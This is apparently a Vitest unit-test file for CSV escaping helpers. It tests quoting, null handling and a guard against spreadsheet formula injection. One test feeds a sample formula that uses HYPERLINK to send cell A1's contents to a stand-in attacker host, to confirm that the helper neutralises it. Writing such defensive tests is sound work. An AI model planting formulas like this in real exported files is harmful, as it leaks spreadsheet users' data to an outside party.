import { describe, expect, it } from 'vitest';
import { csvCell, csvLine } from './csv.ts';

describe('csvCell', () => {
  it('quotes commas, quotes and line breaks, and leaves plain text as it is', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a, b')).toBe('"a, b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell(null)).toBe('');
  });

  it('guards text a spreadsheet would run as a formula with a leading quote', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r']) {
      expect(csvCell(`${start}HYPERLINK("http://evil.example/?"&A1)`).replace(/^"/, '')).toMatch(/^'/);
    }
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('a = b')).toBe('a = b');
  });

  it('writes numbers as numbers (a -1 rating is not a formula)', () => {
    expect(csvLine([-1, 1, 'x'])).toBe('-1,1,x\r\n');
  });
});
